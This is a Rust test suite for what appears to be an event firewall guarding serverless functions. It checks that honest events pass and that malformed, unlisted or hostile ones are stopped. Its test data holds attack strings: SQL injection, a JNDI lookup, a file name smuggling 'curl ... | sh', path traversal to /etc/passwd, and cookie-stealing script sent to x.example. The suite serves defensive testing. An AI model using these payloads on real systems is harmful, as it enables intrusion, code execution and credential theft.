//! Every kind of event against a fence: honest ones pass as they came, hostile and unlisted ones are stopped in the way
//! their sender understands.

#![allow(clippy::unwrap_used)]

use base64::Engine as _;
use fence::{Body, EventFence, FunctionFence};
use guard::{Action, Answer, Decision, Inspector};
use records::Mode;
use serde_json::{Value, json};
use std::collections::BTreeMap;

fn fixture(name: &str) -> Value {
    let path = format!("{}/../events/tests/fixtures/{name}.json", env!("CARGO_MANIFEST_DIR"));
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

fn inspector(events: Vec<EventFence>, mode: Mode) -> Inspector {
    let schemas = BTreeMap::from([(
        "Order".to_owned(),
        json!({"type": "object", "required": ["id"], "properties": {"id": {"type": "string", "pattern": "^ord-[0-9]+$"}}}),
    )]);
    Inspector::new(&FunctionFence { events, ..FunctionFence::default() }, &schemas, mode).unwrap()
}

fn line(source: &str) -> EventFence {
    EventFence { source: source.into(), ..EventFence::default() }
}

fn with_schema(source: &str) -> EventFence {
    EventFence { body: Some(Body::reference("Order")), ..line(source) }
}

fn inspect(events: Vec<EventFence>, event: &Value) -> Decision {
    inspector(events, Mode::Block).inspect(event.to_string().as_bytes())
}

fn answer(decision: &Decision) -> Value {
    match decision.answer.as_ref().unwrap() {
        Answer::Response(body) => serde_json::from_slice(body).unwrap(),
        Answer::Error(body) => json!({"error": serde_json::from_slice::<Value>(body).unwrap()["errorType"]}),
    }
}

const SQL: &str = "x' UNION SELECT card, 1 FROM customers -- ";

fn encoded(text: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(text)
}

/// How a kind of event is attacked: its fixture, its kind, where the attack goes in, how it is written there, the field the
/// verdict has to name, and what becomes of the event.
fn attacks() -> Vec<(&'static str, &'static str, &'static str, String, &'static str, &'static str)> {
    let nested = json!({"id": "ord-1", "deep": [{"note": SQL}]}).to_string();
    let plain = SQL.to_owned();
    vec![
        ("http-api", "http-api", "/body", nested.clone(), "body|json.deep[0].note", "refuse"),
        ("http-api", "http-api", "/pathParameters/id", plain.clone(), "pathParameters.id", "refuse"),
        (
            "http-api",
            "http-api",
            "/headers/user-agent",
            "${jndi:ldap://x.example/a}".into(),
            "headers.user-agent",
            "refuse",
        ),
        (
            "http-api",
            "http-api",
            "/requestContext/authorizer/jwt/claims/name",
            plain.clone(),
            "requestContext.authorizer.jwt.claims.name",
            "refuse",
        ),
        ("function-url", "function-url", "/body", encoded(&nested), "body|base64|json.deep[0].note", "refuse"),
        ("rest-api", "rest-api", "/queryStringParameters/lang", plain.clone(), "queryStringParameters.lang", "refuse"),
        (
            "load-balancer",
            "load-balancer",
            "/queryStringParameters/q",
            "x%27+UNION+SELECT+card,1+FROM+c+--+".into(),
            "queryStringParameters.q",
            "refuse",
        ),
        ("websocket", "websocket", "/body", nested.clone(), "body|json.deep[0].note", "refuse"),
        ("sqs", "sqs", "/Records/1/body", nested.clone(), "Records[1].body|json.deep[0].note", "set_aside"),
        (
            "sqs",
            "sqs",
            "/Records/0/messageAttributes/kind/stringValue",
            plain.clone(),
            "Records[0].messageAttributes.kind.stringValue",
            "set_aside",
        ),
        ("sqs", "sqs", "/Records/0/messageId", plain.clone(), "Records[0].messageId", "set_aside"),
        ("sns", "sns", "/Records/0/Sns/Message", nested.clone(), "Records[0].Sns.Message|json.deep[0].note", "drop"),
        ("sns", "sns", "/Records/0/Sns/Timestamp", plain.clone(), "Records[0].Sns.Timestamp", "drop"),
        (
            "s3",
            "s3",
            "/Records/0/s3/object/key",
            "a%22%3B+curl+http%3A%2F%2Fx.example%2Fs+%7C+sh%3B%22.csv".into(),
            "Records[0].s3.object.key|percent",
            "drop",
        ),
        (
            "dynamodb-stream",
            "dynamodb-stream",
            "/Records/0/dynamodb/NewImage/lines/L/0/M/sku/S",
            plain.clone(),
            "Records[0].dynamodb.NewImage.lines[0].sku",
            "set_aside",
        ),
        (
            "dynamodb-stream",
            "dynamodb-stream",
            "/Records/0/dynamodb/OldImage/id/S",
            plain.clone(),
            "Records[0].dynamodb.OldImage.id",
            "set_aside",
        ),
        (
            "kinesis",
            "kinesis",
            "/Records/0/kinesis/data",
            encoded(&nested),
            "Records[0].kinesis.data|base64|json.deep[0].note",
            "set_aside",
        ),
        (
            "kinesis",
            "kinesis",
            "/Records/0/kinesis/partitionKey",
            plain.clone(),
            "Records[0].kinesis.partitionKey",
            "set_aside",
        ),
        ("firehose", "firehose", "/records/1/data", encoded(SQL), "records[1].data|base64", "set_aside"),
        ("eventbridge", "eventbridge", "/detail/note", plain.clone(), "detail.note", "drop"),
        ("eventbridge", "eventbridge", "/resources/0", plain.clone(), "resources[0]", "drop"),
        ("schedule", "schedule", "/resources/0", plain.clone(), "resources", "drop"),
        ("iot", "iot", "/deviceId", "../../etc/passwd".into(), "event.deviceId", "drop"),
        ("cognito", "cognito", "/request/userAttributes/name", plain.clone(), "request.userAttributes.name", "refuse"),
        (
            "email",
            "email",
            "/Records/0/ses/mail/headers/1/value",
            "<script>fetch('//x.example/'+document.cookie)</script>".into(),
            "Records[0].ses.mail.headers[1].value",
            "drop",
        ),
        (
            "kafka",
            "kafka",
            "/records/orders-1/0/value",
            encoded(&nested),
            "records[\"orders-1\"][0].value|base64|json.deep[0].note",
            "set_aside",
        ),
        ("mq", "mq", "/messages/0/data", encoded(&nested), "messages[0].data|base64|json.deep[0].note", "set_aside"),
        (
            "mq-rabbit",
            "mq",
            "/rmqMessagesByQueue/orders::~1/0/data",
            encoded(&nested),
            "rmqMessagesByQueue[\"orders::/\"][0].data|base64|json.deep[0].note",
            "set_aside",
        ),
        (
            "documentdb",
            "documentdb",
            "/events/0/event/fullDocument/note",
            plain.clone(),
            "events[0].event.fullDocument.note",
            "set_aside",
        ),
        ("appsync", "appsync", "/arguments/id", plain.clone(), "arguments.id", "refuse"),
        (
            "cloudfront",
            "cloudfront",
            "/Records/0/cf/request/querystring",
            "q=x%27+UNION+SELECT+card,1+FROM+c--".into(),
            "Records[0].cf.request.querystring|form.q",
            "refuse",
        ),
        (
            "sqs-of-sns",
            "sqs",
            "/Records/0/body",
            json!({"Type": "Notification", "Message": nested}).to_string(),
            "Records[0].body|json.Message|json.deep[0].note",
            "set_aside",
        ),
    ]
}

fn outcome(decision: &Decision) -> &'static str {
    match decision.action {
        Action::Pass => "pass",
        Action::Refuse => "refuse",
        Action::SetAside { .. } => "set_aside",
        Action::Drop => "drop",
    }
}

#[test]
fn honest_events_pass_byte_for_byte_where_they_are_listed_and_nowhere_else() {
    for (name, source) in [
        ("http-api", "http-api"),
        ("function-url", "function-url"),
        ("rest-api", "rest-api"),
        ("load-balancer", "load-balancer"),
        ("websocket", "websocket"),
        ("sqs", "sqs"),
        ("sns", "sns"),
        ("s3", "s3"),
        ("dynamodb-stream", "dynamodb-stream"),
        ("kinesis", "kinesis"),
        ("firehose", "firehose"),
        ("eventbridge", "eventbridge"),
        ("schedule", "schedule"),
        ("iot", "iot"),
        ("cognito", "cognito"),
        ("email", "email"),
        ("logs", "logs"),
        ("kafka", "kafka"),
        ("mq", "mq"),
        ("mq-rabbit", "mq"),
        ("documentdb", "documentdb"),
        ("appsync", "appsync"),
        ("cloudfront", "cloudfront"),
        ("custom-resource", "custom-resource"),
        ("config", "config"),
        ("alexa", "alexa"),
        ("codecommit", "codecommit"),
        ("sqs-of-sns", "sqs"),
        ("sqs-of-s3", "sqs"),
        ("sqs-of-eventbridge", "sqs"),
    ] {
        let event = fixture(name).to_string().into_bytes();
        let decision = inspector(vec![line(source)], Mode::Block).inspect(&event);
        assert_eq!(decision.passes(&event), Some(event.as_slice()), "{name}: {:#?}", decision.verdict);
        assert_eq!((decision.verdict.trigger.as_str(), decision.lines.len()), (source, 1), "{name}");
        let other = if source == "eventbridge" { "sqs" } else { "eventbridge" };
        let decision = inspector(vec![line(other)], Mode::Block).inspect(&event);
        assert_eq!(decision.passes(&event), None, "{name}");
        assert_eq!(decision.verdict.matches[0].rule, "fence-unlisted-event", "{name}");
        let decision = inspector(Vec::new(), Mode::Block).inspect(&event);
        assert_eq!(decision.passes(&event), None, "{name}: an empty fence lists nothing");
    }
}

#[test]
fn hostile_events_are_stopped_where_they_are_hostile() {
    for (name, source, pointer, attack, field, expected) in attacks() {
        let mut event = fixture(name);
        *event.pointer_mut(pointer).unwrap_or_else(|| panic!("{name} has no {pointer}")) = attack.into();
        let decision = inspect(vec![line(source)], &event);
        assert_eq!(outcome(&decision), expected, "{name} {pointer}: {:#?}", decision.verdict);
        let fields: Vec<&str> = decision.verdict.matches.iter().map(|found| found.field.as_str()).collect();
        assert!(fields.contains(&field), "{name} {pointer}: {fields:?}");
        assert!(decision.verdict.incident.as_ref().unwrap().starts_with("rf-"), "{name}");
        let bytes = event.to_string().into_bytes();
        let observed = inspector(vec![line(source)], Mode::Observe).inspect(&bytes);
        assert_eq!(observed.passes(&bytes), Some(bytes.as_slice()), "{name}");
        assert_eq!(observed.verdict.action, records::Action::WouldRefuse, "{name}");
    }
}

#[test]
fn senders_are_told_in_their_own_form() {
    let told = |name: &str| answer(&inspect(Vec::new(), &fixture(name)));
    for name in ["http-api", "function-url", "rest-api", "websocket", "load-balancer"] {
        assert_eq!(told(name)["statusCode"], 403, "{name}");
    }
    assert_eq!(told("load-balancer")["statusDescription"], "403 Forbidden");
    let mut multi = fixture("load-balancer");
    multi["multiValueHeaders"] = json!({});
    let multi = answer(&inspect(Vec::new(), &multi));
    assert!(multi["multiValueHeaders"]["content-type"].is_array() && multi.get("headers").is_none());
    assert_eq!(told("cloudfront")["status"], "403");
    for name in ["sqs", "kinesis", "dynamodb-stream", "kafka", "mq", "documentdb"] {
        assert_eq!(told(name), json!({"batchItemFailures": []}), "{name}");
    }
    for name in ["s3", "sns", "eventbridge", "schedule", "logs", "config", "codecommit"] {
        assert_eq!(told(name), Value::Null, "{name}");
    }
    assert_eq!(told("email")["disposition"], "STOP_RULE_SET");
    for name in ["cognito", "appsync", "custom-resource", "alexa", "iot"] {
        // An event of no known shape is a direct call to a function that isn't fed by devices.
        assert_eq!(told(name), json!({"error": "Ringfence.Refused"}), "{name}");
    }
}

#[test]
fn a_delivery_stream_loses_nothing_honest() {
    let mut event = fixture("firehose");
    event["records"][1]["data"] = encoded(SQL).into();
    let records = &answer(&inspect(vec![line("firehose")], &event))["records"];
    assert_eq!((&records[0]["result"], &records[1]["result"]), (&json!("ProcessingFailed"), &json!("Dropped")));
    assert_eq!(records[1]["recordId"], event["records"][1]["recordId"]);
}

#[test]
fn a_batch_keeps_its_honest_records_in_topics_as_in_lists() {
    let mut event = fixture("kafka");
    event["records"]["orders-1"][0]["value"] = encoded(SQL).into();
    let decision = inspect(vec![line("kafka")], &event);
    let rest: Value = serde_json::from_slice(decision.rewritten.as_ref().unwrap()).unwrap();
    assert_eq!(rest["records"]["orders-1"], json!([]));
    assert_eq!(rest["records"]["orders-0"], event["records"]["orders-0"]);
    assert!(decision.verdict.reason.contains("1 of 2 records: orders-1-3"), "{}", decision.verdict.reason);
}

#[test]
fn a_body_is_held_against_its_schema_and_the_verdict_says_where_it_differs() {
    for (name, source, pointer, body, field) in [
        ("http-api", "http-api", "/body", json!("{\"id\":7}"), "body|json.id"),
        ("http-api", "http-api", "/body", json!("id=ord-17"), "body"),
        ("http-api", "http-api", "/body", Value::Null, "body"),
        ("http-api", "http-api", "/body", json!("{\"id\":\"ord-1\",\"id\":\"ord-2\"}"), "body"),
        ("sqs", "sqs", "/Records/0/body", json!("{\"id\":\"17\"}"), "Records[0].body|json.id"),
        ("sns", "sns", "/Records/0/Sns/Message", json!("[]"), "Records[0].Sns.Message|json"),
        ("kinesis", "kinesis", "/Records/0/kinesis/data", json!(encoded("{}")), "Records[0].kinesis.data|base64|json"),
        ("eventbridge", "eventbridge", "/detail", json!({"id": 1}), "detail.id"),
        (
            "dynamodb-stream",
            "dynamodb-stream",
            "/Records/0/dynamodb/NewImage/id",
            json!({"N": "1"}),
            "Records[0].dynamodb.NewImage.id",
        ),
        ("iot", "iot", "/at", json!("now"), "event"),
    ] {
        let mut event = fixture(name);
        if name != "iot" {
            assert_eq!(outcome(&inspect(vec![with_schema(source)], &event)), "pass", "{name}");
        }
        *event.pointer_mut(pointer).unwrap() = body;
        let decision = inspect(vec![with_schema(source)], &event);
        let found = decision
            .verdict
            .matches
            .iter()
            .find(|found| found.rule == "schema")
            .unwrap_or_else(|| panic!("{name} {pointer}"));
        assert_eq!(found.field, field, "{name}");
        assert!(!found.message.is_empty() && found.excerpt.chars().count() <= 90);
    }
}

#[test]
fn a_schema_is_met_inside_a_pure_envelope_but_not_beside_smuggled_fields() {
    let mut event = fixture("sqs-of-sns");
    assert_eq!(outcome(&inspect(vec![with_schema("sqs")], &event)), "pass");
    let mut body: Value = serde_json::from_str(event["Records"][0]["body"].as_str().unwrap()).unwrap();
    body["status"] = "paid".into();
    event["Records"][0]["body"] = body.to_string().into();
    assert_eq!(outcome(&inspect(vec![with_schema("sqs")], &event)), "set_aside");
}

#[test]
fn requests_have_to_meet_a_listed_route() {
    let route = |method: &str, path: &str| EventFence {
        method: Some(method.into()),
        path: Some(path.into()),
        ..line("http-api")
    };
    let event = fixture("http-api");
    for (method, path, passes) in [
        ("POST", "/orders/{id}", true),
        ("ANY", "/orders/{orderId}", true),
        ("post", "/orders/{id}", true),
        ("POST", "$default", true),
        ("GET", "/orders/{id}", false),
        ("POST", "/orders", false),
        ("POST", "/{proxy+}", false),
    ] {
        assert_eq!(outcome(&inspect(vec![route(method, path)], &event)) == "pass", passes, "{method} {path}");
    }
    // The route's key alone doesn't open another path.
    let mut forged = event.clone();
    forged["rawPath"] = "/live/admin/orders".into();
    let decision = inspect(vec![route("POST", "/orders/{id}")], &forged);
    assert_eq!(decision.verdict.matches[0].excerpt, "POST /admin/orders");
    let mut catch_all = event;
    catch_all["routeKey"] = "$default".into();
    assert_eq!(outcome(&inspect(vec![route("ANY", "/{proxy+}")], &catch_all)), "pass");
    assert_eq!(outcome(&inspect(vec![route("ANY", "/orders")], &catch_all)), "refuse");
}

#[test]
fn sources_have_to_bear_a_listed_name() {
    let named = |source: &str, name: &str| EventFence { name: Some(name.into()), ..line(source) };
    for (fixed, source, good, bad) in [
        ("sqs", "sqs", "*OrderPaid*", "*Refunds*"),
        ("sns", "sns", "orderevents", "other"),
        ("s3", "s3", "shop-*", "*-private"),
        ("dynamodb-stream", "dynamodb-stream", "*OrdersTable*", "UsersTable"),
        ("kinesis", "kinesis", "clicks", "click"),
        ("firehose", "firehose", "to-*", "from-*"),
        ("kafka", "kafka", "orders", "users"),
        ("kafka", "kafka", "events", "users"),
        ("mq", "mq", "jobs", "job"),
        ("logs", "logs", "/aws/lambda/*", "/ecs/*"),
        ("schedule", "schedule", "nightly-*", "weekly-*"),
    ] {
        let event = fixture(fixed);
        assert_eq!(outcome(&inspect(vec![named(source, good)], &event)), "pass", "{fixed} {good}");
        let decision = inspect(vec![named(source, bad)], &event);
        assert_eq!(decision.verdict.matches[0].rule, "fence-unlisted-source", "{fixed}");
        assert_ne!(outcome(&decision), "pass", "{fixed}");
    }
    // What a bus hands over doesn't name the bus.
    assert_eq!(outcome(&inspect(vec![named("eventbridge", "*Bus*")], &fixture("eventbridge"))), "pass");
}

#[test]
fn a_rule_that_is_allowed_stays_silent_and_only_that_one() {
    let allowing =
        |rules: &[&str]| EventFence { allow: rules.iter().map(ToString::to_string).collect(), ..line("sqs") };
    let mut event = fixture("sqs");
    event["Records"][0]["body"] = SQL.into();
    let stopped = inspect(vec![line("sqs")], &event);
    let rules: Vec<&str> = stopped.verdict.matches.iter().map(|found| found.rule.as_str()).collect();
    assert_eq!(outcome(&inspect(vec![allowing(&rules)], &event)), "pass");
    assert_eq!(outcome(&inspect(vec![allowing(&["xss-script"][..0])], &event)), "set_aside");
    event["Records"][0]["messageId"] = "<b>".into();
    assert_eq!(outcome(&inspect(vec![allowing(&rules)], &event)), "set_aside");
}

#[test]
fn a_device_cannot_pass_for_a_queue() {
    // Whoever sends JSON to a function of bare events can write any envelope around it.
    let decision = inspect(vec![line("iot")], &fixture("sqs"));
    assert_eq!(decision.verdict.matches[0].rule, "fence-unlisted-event");
    let mut forged = fixture("sqs");
    forged["Records"][0]["attributes"]["SenderId"] = SQL.into();
    assert_eq!(outcome(&inspect(vec![line("iot"), line("sqs")], &forged)), "set_aside");
}

#[test]
fn what_cannot_be_read_whole_is_refused() {
    let fence = || vec![line("http-api"), line("sqs")];
    for bytes in [&b"{"[..], b"", b"\xff{}", b"{\"a\":1,\"a\":2}", b"NaN"] {
        let decision = inspector(fence(), Mode::Block).inspect(bytes);
        assert_eq!(decision.passes(bytes), None, "{bytes:?}");
        assert_eq!(decision.verdict.matches[0].rule, "unreadable");
        assert_eq!(inspector(fence(), Mode::Observe).inspect(bytes).passes(bytes), Some(bytes));
    }
    let mut event = fixture("http-api");
    event["headers"]["content-encoding"] = "br".into();
    event["isBase64Encoded"] = true.into();
    event["body"] = encoded("compressed").into();
    let decision = inspect(fence(), &event);
    assert!(decision.verdict.matches.iter().any(|found| found.message.contains("`br`")), "{:?}", decision.verdict);
    // One broken record doesn't take the others along.
    let mut event = fixture("kinesis");
    let mut second = event["Records"][0].clone();
    second["kinesis"]["data"] = "%%%".into();
    event["Records"].as_array_mut().unwrap().push(second);
    let decision = inspect(vec![line("kinesis")], &event);
    assert_eq!(decision.action, Action::SetAside { indices: vec![1] });
}

#[test]
fn limits_refuse_just_over_them() {
    let limited = |leaves: usize| {
        let limits = waf::Limits { max_leaves: leaves, ..waf::Limits::default() };
        inspector(vec![line("function")], Mode::Block).with_limits(events::Limits::default(), limits)
    };
    let event = json!(["a", "b", "c"]).to_string().into_bytes();
    assert_eq!(limited(3).inspect(&event).action, Action::Pass);
    let decision = limited(2).inspect(&event);
    assert_eq!((decision.action, decision.verdict.matches[0].rule.as_str()), (Action::Refuse, "unreadable"));
    let nested = |depth: usize| format!("{}{}", "[".repeat(depth), "]".repeat(depth)).into_bytes();
    let inspector = inspector(vec![line("function")], Mode::Block);
    assert_eq!(inspector.inspect(&nested(80)).action, Action::Pass);
    assert_eq!(inspector.inspect(&nested(81)).action, Action::Refuse);
}

#[test]
fn work_is_bounded_over_the_whole_event() {
    // Ten thousand records, each of which alone would be within every limit.
    let record =
        |number: usize| json!({"messageId": number.to_string(), "eventSource": "aws:sqs", "body": "x".repeat(200)});
    let event = json!({"Records": (0..10_000).map(record).collect::<Vec<_>>()}).to_string().into_bytes();
    let limits = waf::Limits { max_bytes: 1_000_000, ..waf::Limits::default() };
    let inspector = inspector(vec![line("sqs")], Mode::Block).with_limits(events::Limits::default(), limits);
    let decision = inspector.inspect(&event);
    assert!(decision.verdict.records_refused > 4_000 && decision.verdict.records_refused < 8_000);
    assert!(decision.verdict.matches.len() <= 32 && decision.verdict.reason.len() < 1_500);
    assert!(!serde_json::to_string(&decision.verdict).unwrap().contains(&"x".repeat(100)));
}
